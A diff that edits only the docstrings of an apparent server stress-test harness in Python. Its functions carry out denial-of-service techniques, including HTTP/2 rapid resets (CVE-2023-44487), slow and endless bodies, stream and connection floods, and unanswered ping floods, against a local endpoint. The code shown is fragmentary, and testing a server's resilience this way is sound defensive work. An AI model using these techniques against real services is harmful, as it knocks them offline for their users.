@@ -47,7 +47,7 @@ RSS = MEMORY + CONNECTIONS * MIB + 128 * MIB
 
 
 class Sample:
-    """The resources of a process."""
+    """The resources that a process uses at one time."""
 
     def __init__(self, pid: int) -> None:
         """Read the resources that the process uses now."""
@@ -162,11 +162,11 @@ class Attack:
 
     @property
     def is_on(self) -> bool:
-        """True if the attack still runs."""
+        """True until the time of the attack has passed."""
         return time.monotonic() < self.until
 
     def dial(self, number: int = 0) -> socket.socket:
-        """Dial from one of 100 addresses."""
+        """Connect to the endpoint from one of 100 local addresses."""
         source = f"127.0.1.{number % 100 + 1}"
         made = socket.socket()
         made.settimeout(5)
@@ -176,7 +176,7 @@ class Attack:
         return made
 
     def tls(self, number: int = 0, protocol: str = "http/1.1") -> ssl.SSLSocket:
-        """Dial, and shake hands."""
+        """Connect to the endpoint, and do the TLS handshake."""
         context = trusting()
         context.set_alpn_protocols([protocol])
         made = context.wrap_socket(self.dial(number), server_hostname="x")
@@ -184,7 +184,7 @@ class Attack:
         return made
 
     def head(self, method: str, path: str, *lines: str) -> bytes:
-        """Write the head of a request, without its end."""
+        """Return the head of a request, without the empty line at its end."""
         auth = f"Authorization: Bearer {self.token}"
         return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: x", auth, *lines, ""]).encode()
 
@@ -224,7 +224,7 @@ def half_a_preamble(attack: Attack) -> None:
 
 
 def from_everywhere(attack: Attack) -> None:
-    """More connections than slots, a few from each of many addresses."""
+    """Open more connections than the endpoint has slots, from many addresses."""
     half = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(30)
     opened = 0
     while attack.is_on or opened <= 4 * CONNECTIONS:
@@ -278,7 +278,7 @@ def slow_bodies(attack: Attack) -> None:
 
 
 def huge_bodies(attack: Attack) -> None:
-    """Bodies that never end, with and without an announced length."""
+    """Send bodies that never end, with and without an announced length."""
     number = 0
     piece = b" " * (256 * KIB)
     while attack.is_on:
@@ -326,7 +326,7 @@ def listeners(attack: Attack) -> None:
 
 
 def slow_readers(attack: Attack) -> None:
-    """Clients that request large answers concurrently, and read none."""
+    """Request large answers on many connections, and read none of them."""
     path = f"/v1/storage/list?{query('/data/many', limit=1000)}"
     whole = attack.head("GET", path) + b"\r\n"
     made = []
@@ -346,12 +346,12 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
 def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
-    """Write a frame of HTTP/2 (RFC 9113, section 4.1)."""
+    """Return a frame of HTTP/2 (RFC 9113, section 4.1)."""
     return len(body).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + body
 
 
 def text_of(data: bytes) -> bytes:
-    """Write a string of HPACK without Huffman (RFC 7541, section 5.2)."""
+    """Return a string of HPACK without Huffman coding (RFC 7541, section 5.2)."""
     if len(data) < 127:
         return bytes([len(data)]) + data
     rest, number = len(data) - 127, b"\x7f"
@@ -368,7 +368,7 @@ def headers_of(token: str, path: str = "/v1/events?timeout=30") -> bytes:
 
 
 def rapid_resets(attack: Attack) -> None:
-    """Streams that are opened and reset, as fast as possible (CVE-2023-44487)."""
+    """Open and reset streams, as fast as possible (CVE-2023-44487)."""
     block = headers_of(attack.token, "/v1/transfers?limit=1000")
     total = 0
     while attack.is_on:
@@ -386,7 +386,7 @@ def rapid_resets(attack: Attack) -> None:
 
 
 def many_streams(attack: Attack) -> None:
-    """Long polls on all permitted streams, and on more."""
+    """Start long polls on all permitted streams, and on further streams."""
     block = headers_of(attack.token)
     for _ in range(8):
         with contextlib.suppress(OSError):
@@ -425,7 +425,7 @@ def endless_headers(attack: Attack) -> None:
 
 
 def pings_and_settings(attack: Attack) -> None:
-    """Frames that require an answer, whose answers the client does not read."""
+    """Send frames that require an answer, and read no answers."""
     while attack.is_on:
         with contextlib.suppress(OSError):
             one = attack.tls(protocol="h2")
@@ -436,7 +436,7 @@ def pings_and_settings(attack: Attack) -> None:
 
 
 def guessed_tickets(attack: Attack) -> None:
-    """Random tickets, on sessions and by the API."""
+    """Use random tickets in sessions and in calls of the API."""
     number = 0
     context = trusting()
     while attack.is_on:
@@ -457,7 +457,7 @@ def guessed_tickets(attack: Attack) -> None:
 
 
 def hello_without_end(attack: Attack) -> None:
-    """Frames that announce a huge length, before any authentication."""
+    """Announce a frame of a huge length, before any authentication."""
     context = trusting()
     while attack.is_on:
         with contextlib.suppress(OSError):
